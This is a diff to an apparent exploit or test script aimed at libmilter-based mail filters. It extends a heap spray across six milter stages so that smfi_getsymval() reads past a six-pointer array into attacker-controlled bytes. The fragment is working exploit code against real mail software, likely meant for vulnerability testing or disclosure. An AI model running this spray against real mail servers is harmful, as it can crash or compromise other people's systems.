@@ -87,14 +87,15 @@ def badmacro(args):
             continue
         try:
             negotiate(s)
-            # Two well-formed macro packets for another stage whose data
-            # (56 bytes, 'A's from offset 5) is what the allocator hands out
-            # next for an array of 6 pointers, once the second packet freed
-            # the first. Then the connect stage's macros: two pairs and one
-            # name without a value, whose array is such a 6-pointer one:
-            # smfi_getsymval() looks past its end, at the 'A's.
-            spray = b"M" + b"{x}\0" + b"A" * 50 + b"\0"
-            s.sendall(packet(b"D", spray) + packet(b"D", spray))
+            # Well-formed macro packets for other stages, each twice, whose
+            # data (56 bytes, 'A's from offset 5) is what the allocator hands
+            # out next for an array of 6 pointers once the second packet of
+            # a stage freed the first. Then the connect stage's macros: two
+            # pairs and one name without a value, whose array is such a
+            # 6-pointer one: smfi_getsymval() looks past its end, at 'A's.
+            for stage in (b"H", b"M", b"R", b"T", b"N", b"E"):
+                spray = stage + b"{x}\0" + b"A" * 50 + b"\0"
+                s.sendall(packet(b"D", spray) + packet(b"D", spray))
             names = [b"j", b"mx.example", b"{daemon_name}", b"smtpd", b"x"]
             s.sendall(packet(b"D", b"C" + b"".join(n + b"\0" for n in names)))
             # connect: hostname, family '4', port, address
